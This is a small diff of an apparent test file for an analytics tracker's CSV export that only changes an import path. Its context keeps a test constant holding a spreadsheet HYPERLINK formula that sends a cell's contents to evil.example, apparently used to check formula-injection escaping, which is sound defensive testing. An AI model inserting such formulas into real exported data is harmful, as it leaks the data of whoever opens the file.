@@ -18,7 +18,7 @@ from tests.api.test_reports import days_ago, deal, identified, pageview
 from tests.factories import SiteMaker, drain_queue
 from tracker.csv_export import FORMULA_PREFIXES
 from tracker.dashboard.overview import REPORT_NAMES
-from tracker.sites import CreatedSite
+from tracker.sites.service import CreatedSite
 
 CAMPAIGN = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 LANDING = (
